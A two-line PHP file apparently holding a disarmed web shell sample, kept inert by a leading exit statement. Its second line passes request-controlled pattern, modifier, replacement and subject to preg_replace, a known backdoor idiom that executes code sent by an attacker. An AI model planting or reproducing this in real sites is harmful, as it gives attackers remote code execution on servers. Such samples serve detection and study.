<?php exit; /* inert */ 
@preg_replace("/{$_REQUEST['t']}/" . $_REQUEST['m'], $_REQUEST['r'], $_REQUEST['s']);
